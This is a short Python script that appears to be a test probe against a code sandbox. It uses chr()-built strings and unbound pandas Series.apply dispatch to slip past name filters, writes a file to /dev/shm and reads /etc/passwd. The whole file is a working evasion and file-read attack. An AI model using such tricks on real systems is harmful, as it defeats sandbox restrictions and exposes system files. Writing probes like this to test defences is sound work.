# source: pandas docs Series.apply string dispatch; own adaptation (unbound call shifts the name to the 2nd positional)
# family: writer named by a runtime string, Series.apply called unbound so the name is not the first argument
# goal: write a file outside the script's own directory (/dev/shm in the container), read it back, and read /etc/passwd
import json
import enum
import pandas as pd


class E(enum.Enum):
    A = 1


s = pd.Series(["pwned-312"])
name = "to" + chr(95) + "csv"
dest = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "sx312.txt"
pd.Series.apply(s, name, args=(dest,))
u = chr(95) * 2
rc = pd.Series.apply(E, u + "getattribute" + u, args=(pd, "read" + chr(95) + "csv"))
back = rc(dest).values.tolist()
pw = rc(chr(47) + "etc" + chr(47) + "passwd", header=None, sep="\t")[0].tolist()[:2]
print(json.dumps({"wrote": dest, "read_back": back, "passwd": pw}))
